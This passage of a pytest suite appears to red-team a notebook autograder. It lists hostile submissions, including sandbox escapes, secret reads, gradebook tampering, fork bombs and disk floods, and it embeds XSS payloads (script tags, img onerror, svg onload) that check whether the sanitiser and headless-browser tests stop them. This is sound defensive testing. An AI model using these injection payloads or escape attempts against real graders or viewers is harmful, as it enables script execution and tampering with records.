        Case("hidden_tracebacks", tamper(HIDE_TRACEBACKS), flags=("tampered",), review=True),
        Case("patched_builtins", tamper(PATCH_BUILTINS), flags=("suspicious_code",), review=True),
        Case("shadowed_builtins", tamper(SHADOW_BUILTINS)),
        Case("patched_float_type", tamper(PATCH_FLOAT_TYPE), status=None, review=True),
        Case("fake_numpy_in_sys_modules", tamper(FAKE_NUMPY_MODULE), review=True),
        Case("kernel_drops_error_messages", tamper(DROP_ERROR_MESSAGES), review=True),
        Case("scripted_outputs_and_markdown", _scripted_outputs, add),
        # ---- escape attempts: nothing leaves the sandbox
        Case("reads_solutions_gradebook_secrets", tamper(escape_reads(secrets, folders)), review=True,
             needs="bwrap"),
        Case("writes_outside_working_copy", tamper(escape_writes(escape_files)), needs="bwrap",
             extra={"files": escape_files}),
        Case("network_access", tamper(escape_network(port)), review=True, needs="unshare"),
        Case("zeroes_the_gradebook", tamper(gradebook_attack(str(out / "gradebook.db"))), review=True,
             needs="bwrap"),
        Case("forges_other_results", tamper(FORGE_RESULTS), needs="bwrap"),
        Case("kills_every_process", tamper(KILL_EVERYTHING), status=None, needs="unshare"),
        Case("leaves_processes_behind", _later_cell(LINGER), add, review=True),
        # ---- resources: stopped, flagged, the batch goes on
        Case("memory_hog", tamper(MEMORY_HOG), status=None, flags=("memory_limit",)),
        Case("process_flood", tamper(PROCESS_FLOOD), status=None, flags=("process_limit",)),
        Case("fork_bomb", tamper(FORK_BOMB), status=None, flags=("process_limit",)),
        Case("ignores_interrupts_forever", _later_cell(IGNORE_INTERRUPT), add, flags=("timeout",)),
        Case("kills_its_kernel", _later_cell(KERNEL_EXIT), add, flags=("kernel_died",)),
        Case("output_flood", _later_cell(OUTPUT_FLOOD), add, flags=("output_truncated",)),
        Case("fills_the_disk", _later_cell(FILL_DISK), add, needs="bwrap"),
    ]


HONEST = {"alice": (solution(), FULL), "bob": (raw_file(RELEASE.read_bytes()), 0.0),
          "carol": (_later_cell("def mean(xs):\n    return sum(xs) // len(xs)\n"), ADD)}


def _folder(case: Case, subs: Path) -> Path:
    name = case.folder if case.folder is not None else case.name
    return subs / (os.fsdecode(name) if isinstance(name, bytes) else name)


def _shown_id(case: Case) -> str:
    """The id grades.csv shows for `case`: escaped, then neutralised as a CSV cell."""
    from autograder import safe
    name = case.folder if case.folder is not None else case.name
    return safe.csv_cell(safe.escape(os.fsdecode(name) if isinstance(name, bytes) else name))


def _run_batch(tmp: Path, level: str) -> Batch:
    from autograder import grade, safe
    server, hits = _listen()
    port = server.getsockname()[1]
    subs, out = tmp / "subs", tmp / "out"
    chosen = [c for c in cases(tmp, port) if _supported(c, level)]
    for name, (write, _) in HONEST.items():
        write(subs / name)
    for case in chosen:
        case.write(_folder(case, subs))
    out.mkdir()
    (out / "grading_seed").write_text(f"{BATCH_SEED}\n")
    blocker = out / "feedback" / grade.student_dir("output_folder_unwritable")
    blocker.parent.mkdir(parents=True)
    blocker.write_text("a file where the student's folder should be: writing there fails")
    before = _tree_state(subs)
    env = dict(os.environ, AUTOGRADER_COURSE_ROOT=str(TOY), AUTOGRADER_TEST_SECRET=SECRET)
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", "toy", "--submissions", str(subs),
                           "--out", str(out), "--workers", "2", "--isolation", level,
                           "--cell-timeout", "30", "--timeout", "90", "--memory-limit", "900",
                           "--max-processes", str(MAX_PROCS)],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
    seconds = time.monotonic() - started
    server.close()
    leftovers = []
    for p in psutil.process_iter(["cmdline"]):
        if MARK in " ".join(p.info["cmdline"] or []):
            leftovers.append(p.pid)
            p.kill()
    rows = {}
    if (out / "grades.csv").exists():
        with (out / "grades.csv").open(encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                rows.setdefault(row["student_id"], []).append(row)
    results = {}
    for p in (out / "results").glob("*.json"):
        data = json.loads(p.read_text())
        results[safe.csv_cell(data["student_id"])] = data
    review = list(csv.DictReader((out / "review.csv").open(encoding="utf-8"))) if (out / "review.csv").exists() else []
    files = [f for c in chosen for f in c.extra.get("files", [])]
    escaped = [f for f in files if os.path.exists(f)]
    for f in escaped:
        os.remove(f)
    ids = {c.name: _shown_id(c) for c in chosen}
    return Batch(out, subs, rows, results, review, done.returncode, done.stdout + done.stderr, before,
                 _tree_state(subs), level, escaped, hits, leftovers, seconds, ids)


LEVELS = {"none": 0, "unshare": 1, "bwrap": 2}


def _supported(case: Case, level: str) -> bool:
    return case.needs is None or LEVELS[level] >= LEVELS[case.needs]


@pytest.fixture(scope="session")
def batch(tmp_path_factory) -> Batch:
    from autograder import sandbox
    level = sandbox.detect("auto")
    return _run_batch(tmp_path_factory.mktemp("hostile"), level)


ALL = cases(Path("/nonexistent"), 0)


def _outputs(batch: Batch, case: Case) -> str:
    """Everything the student's cells printed or displayed, as text."""
    from autograder import grade, safe
    student = grade.student_dir(safe.escape(_folder(case, Path("/")).name))
    path = batch.out / "executed" / student / "toy.ipynb"
    if not path.exists():
        return ""
    texts = []
    for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
        for out in cell.get("outputs", []):
            texts.append("".join(out.get("text", "")) + json.dumps(out.get("data", {})) + str(out.get("evalue", "")))
    return "\n".join(texts)


def test_the_forgers_old_answers_are_wrong_in_this_batch():
    """The premise of the red team: what the reference records at seed 0 differs, in every test, from what it
    records at this batch's seed (the hidden checks draw their inputs from hidden_seed)."""
    now = _batch_answers()
    assert all(OLD[test] != now[test] for test in POINTS), "a test whose values do not depend on hidden_seed"


@pytest.mark.parametrize("case", ALL, ids=[c.name for c in ALL])
def test_hostile_case(batch, case):
    if not _supported(case, batch.isolation):
        pytest.skip(f"needs {case.needs} isolation; this machine has {batch.isolation} (install bubblewrap)")
    assert batch.returncode == 0, batch.stdout[-3000:]
    rows = batch.rows.get(batch.ids[case.name], [])
    assert len(rows) == 1, f"{case.name}: expected exactly one row, got {len(rows)}"
    row = rows[0]
    flags = set(filter(None, row["flags"].split(";")))
    detail = batch.results.get(batch.ids[case.name], {})
    if case.status:
        assert row["status"] == case.status, (row, detail.get("detail"))
    unsolved = {t: float(row[t]) for t in POINTS if t not in case.solved}
    assert not any(unsolved.values()), f"{case.name} scored tests it did not solve: {unsolved} {detail.get('messages')}"
    if case.status == "graded":
        assert float(row["score"]) == case.score, (row, detail.get("messages"))
    assert float(row["max_score"]) == FULL, row
    for flag in case.flags:
        assert flag in flags, f"{case.name}: flag {flag!r} missing from {sorted(flags)} ({detail.get('messages')})"
    for flag in case.not_flags:
        assert flag not in flags, f"{case.name}: unexpected flag {flag!r}"
    assert "grader_error" not in flags or case.name == "output_folder_unwritable", (row, detail.get("detail"))
    leaks = [line for line in _outputs(batch, case).splitlines() if "ESCAPED" in line]
    assert not leaks, f"{case.name} reached something outside its sandbox: {leaks}"
    if case.review:
        assert batch.ids[case.name] in {r["student_id"] for r in batch.review}, f"{case.name} not in review.csv"


def test_honest_students_keep_their_grades(batch):
    for student, (_, expected) in HONEST.items():
        rows = batch.rows[student]
        assert len(rows) == 1 and rows[0]["status"] == "graded", rows
        assert float(rows[0]["score"]) == expected, (student, rows[0], batch.results[student].get("messages"))
        assert not set(rows[0]["flags"].split(";")) & {"tampered", "suspicious_code", "grader_error"}, rows[0]


def test_honest_grades_in_the_gradebook_survive(batch):
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{batch.out / 'gradebook.db'}") as gb:
        for student, (_, expected) in HONEST.items():
            assert gb.find_submission("toy", student).code_score == expected
        scores = {s.student.id: s.code_score for s in gb.assignment_submissions("toy")}
    for case in ALL:                              # a hostile student's gradebook entry holds only what it solved
        if _supported(case, batch.isolation) and case.status == "graded":
            shown = batch.rows[batch.ids[case.name]][0]
            assert scores.get(batch.results[batch.ids[case.name]]["student_id"], 0) == float(shown["score"]), case.name


def test_every_student_has_exactly_one_row(batch):
    expected = {batch.ids[c.name] for c in ALL if _supported(c, batch.isolation)} | set(HONEST)
    assert set(batch.rows) == expected
    assert all(len(v) == 1 for v in batch.rows.values())


def test_submissions_are_never_modified(batch):
    assert batch.before == batch.after


def test_nothing_escaped(batch):
    assert not batch.escaped_files, f"files written outside the sandbox: {batch.escaped_files}"
    assert not batch.leftovers, "processes outlived their submission"
    if LEVELS[batch.isolation] >= LEVELS["unshare"]:
        assert not batch.network_hits, f"a submission reached the network: {batch.network_hits}"


def test_no_csv_cell_is_a_formula(batch):
    from autograder import safe
    done = subprocess.run([sys.executable, "-m", "autograder", "report", str(batch.out)], cwd=ROOT,
                          env=dict(os.environ, AUTOGRADER_COURSE_ROOT=str(TOY)), capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    paths = [batch.out / "grades.csv", batch.out / "review.csv", *sorted((batch.out / "report").glob("*.csv"))]
    assert len(paths) >= 4
    for path in paths:
        with path.open(encoding="utf-8", newline="") as fh:
            for line, row in enumerate(csv.reader(fh), 1):
                bad = [c for c in row if safe.csv_cell(c) != c]
                assert not bad, f"{path.name} line {line}: formula cells {bad}"
    assert "'=HYPERLINK" in (batch.out / "grades.csv").read_text(encoding="utf-8")


def test_one_log_line_per_record(batch):
    log = (batch.out / "grading.log").read_text(encoding="utf-8")
    assert "\nforged grading.log line" not in log and "forged grading.log line" in log
    assert "\u202e" not in log
    assert all(line[:4].isdigit() for line in log.splitlines()), "a line of grading.log does not start with its time"


def test_odd_ids_get_hashed_file_names_and_keep_their_id(batch):
    from autograder import grade, safe
    for name in ("id_too_long_not_utf8", "id_backslash", "id_reserved_name", "id_formula"):
        case = next(c for c in ALL if c.name == name)
        folder = grade.student_dir(safe.escape(_folder(case, Path("/")).name))
        assert folder.startswith(safe.HASHED_PREFIX), (name, folder)
        assert (batch.out / "results" / f"{folder}.json").exists(), name
        if case.status == "graded":
            assert (batch.out / "feedback" / folder / "toy.html").exists(), name
            assert (batch.out / "autograded" / folder / "toy" / "toy.ipynb").exists(), name


def test_the_kernel_could_write_only_bounded_places(batch):
    if batch.isolation != "bwrap":
        pytest.skip("needs bubblewrap: without it the kernel writes where the grader can")
    printed = _outputs(batch, next(c for c in ALL if c.name == "fills_the_disk"))
    assert "wrote all of" not in printed, printed        # every writable place filled up (tmpfs) or refused
    assert "/dev/big.bin Read-only file system" in printed, printed


def test_floods_and_fork_bombs_are_stopped(batch):
    """A flood of 40 processes is stopped just past the limit; a shell fork bomb (2046 processes if nothing
    stopped it) is stopped with its pid namespace before it completes. (As root RLIMIT_NPROC never applies; as
    another user the sandbox caps tasks at sandbox.task_limit.)"""
    flood = batch.results[batch.ids["process_flood"]].get("peak_procs", 0)
    bomb = batch.results[batch.ids["fork_bomb"]].get("peak_procs", 0)
    print(f"processes when stopped, limit {MAX_PROCS}: flood of 40 -> {flood}, fork bomb of 2046 -> {bomb}")
    assert MAX_PROCS < flood <= 40 and MAX_PROCS < bomb < 2046, (flood, bomb)


def test_whole_class_fits_the_time_budget(batch):
    # about 65 students, 2 workers; a generous bound for a 2-core CI machine
    print(f"the hostile class took {batch.seconds:.0f} s")
    assert batch.seconds < 420, f"the hostile class took {batch.seconds:.0f} s"


# --------------------------------------------------------------------------- in a real browser

_EXPORTER = []


def _formgrader_html(notebook: Path) -> str:
    """The page formgrader serves for an autograded notebook (its own exporter and template)."""
    if not _EXPORTER:
        from nbconvert.exporters import HTMLExporter
        from nbgrader.server_extensions.formgrader import handlers
        from traitlets.config import Config
        config = Config()
        config.HTMLExporter.template_name = "formgrade"
        config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
        _EXPORTER.append(HTMLExporter(config=config))
    resources = {"assignment_id": "toy", "notebook_id": "toy", "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": "x", "last_name": "", "first_name": "", "notebook_path": str(notebook)}
    html, _ = _EXPORTER[0].from_filename(str(notebook), resources=resources)
    return html


def _scripts_that_ran(paths: list[Path], screenshot: Path | None = None) -> tuple[list, list]:
    """Open each page in headless Chromium (nothing but file: URLs may load); (what ran, images of the last page)."""
    from test_browser import CHROMIUM, FLAGS, _requirements
    _requirements()
    from playwright.sync_api import sync_playwright
    ran, images = [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        context = browser.new_context()
        context.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:")
                      else route.abort())                                  # nothing leaves this machine
        page = context.new_page()
        page.on("dialog", lambda dialog: (ran.append(f"dialog {dialog.message}"), dialog.dismiss()))
        for path in paths:
            page.goto(path.as_uri(), wait_until="load")
            pwned = page.evaluate("() => window.__pwned || null")
            if pwned or page.title() == "PWNED":
                ran.append(f"{path.name}: {pwned}")
        images = page.evaluate("() => Array.from(document.images).map(i => [i.naturalWidth, i.src.slice(0, 30)])")
        if screenshot:
            page.screenshot(path=str(screenshot), full_page=True)
        browser.close()
    return ran, images


def _hostile_outputs_notebook():
    """The toy solution with, in its answer cell, the outputs SCRIPTED_OUTPUTS displays (as a kernel sends them),
    and the student's markdown and raw cells: what a renderer would get without the grader's sanitising."""
    from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell
    nb = _nb(SOLUTION)
    cell = _cell(nb, "toy_add")
    script = f"<script>{BAD.format('html')}</script><img src=x onerror=\"{BAD.format('img')}\">"
    cell.outputs = [
        new_output("display_data", data={"text/html": script, "text/plain": "a table"}),
        new_output("display_data", data={"application/javascript": BAD.format("javascript")}),
        new_output("display_data", data={"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" '
                                                          f'onload="{BAD.format("svg-onload")}"></svg>'}),
        new_output("display_data", data={"image/png": f"iVBORw0KGgo=\" onerror=\"{BAD.format('png-quote')}\" x=\""}),
        new_output("display_data", data={"image/png": _png()},
                   metadata={"image/png": {"width": f"1 onerror={BAD.format('width')}"}}),
        new_output("display_data", data={"text/markdown": f"<script>{BAD.format('markdown-output')}</script>"}),
        new_output("stream", name="stdout", text=f"</pre><script>{BAD.format('stream')}</script>"),
        new_output("error", ename="ValueError", evalue=f"<img src=x onerror={BAD.format('error')}>", traceback=[])]
    nb.cells.insert(1, new_markdown_cell(HOSTILE_MARKDOWN))
    raw = new_raw_cell(f"<script>{BAD.format('raw-cell')}</script>")
    raw.metadata["format"] = raw.metadata["raw_mimetype"] = "text/html"
    nb.cells.insert(2, raw)
    for new in nb.cells[1:3]:
        new.pop("id", None)                # the course's notebooks are nbformat 4.4: no cell ids
    return nb


def test_the_browser_check_sees_scripts_and_sanitising_stops_them(tmp_path):
    """The control: formgrader's rendering of the raw outputs runs the student's scripts; of the same notebook
    sanitised as the grader writes it, none (and the real figure is still there, re-encoded)."""
    from autograder import sanitize
    nb = _hostile_outputs_notebook()
    raw_path, clean_path = tmp_path / "raw.ipynb", tmp_path / "clean.ipynb"
    nbformat.write(nb, str(raw_path))
    sanitize.notebook(nb)
    nbformat.write(nb, str(clean_path))
    pages = []
    for path in (raw_path, clean_path):
        pages.append(path.with_suffix(".html"))
        pages[-1].write_text(_formgrader_html(path), encoding="utf-8")
    ran, images = _scripts_that_ran(pages, tmp_path / "sanitised.png")
    assert any(r.startswith("raw.html") for r in ran), "the control page ran no script: the check would see nothing"
    assert not [r for r in ran if r.startswith("clean.html")], ran
    assert [4, "data:image/png;base64,iVBORw0K"] in images, images


FORMGRADER_SAMPLE = ("scripted_outputs_and_markdown", "alice", "output_flood", "forges_record_from_input_history",
                     "kernel_drops_error_messages", "fills_the_disk")


def test_no_script_runs_in_feedback_or_formgrader(batch, tmp_path):
    """Every feedback page, and formgrader's page for the students whose notebooks carry hostile outputs (its
    exporter takes over a second a page, so not all of them)."""
    pages = sorted(batch.out.glob("feedback/*/toy.html"))
    for student in FORMGRADER_SAMPLE:
        notebook = batch.out / "autograded" / student / "toy" / "toy.ipynb"
        if notebook.exists():
            pages.append(tmp_path / f"formgrader-{student}.html")
            pages[-1].write_text(_formgrader_html(notebook), encoding="utf-8")
    hostile = tmp_path / "formgrader-scripted_outputs_and_markdown.html"
    assert hostile.exists() and len(pages) > 2 * len(HONEST)
    ran, images = _scripts_that_ran(pages + [hostile], tmp_path / "hostile-formgrader.png")
    assert not ran, "scripts ran: " + "; ".join(ran)
    assert [4, "data:image/png;base64,iVBORw0K"] in images, images     # the real figure survives, re-encoded
    print(f"opened {len(pages)} pages in Chromium; screenshot in {tmp_path}")
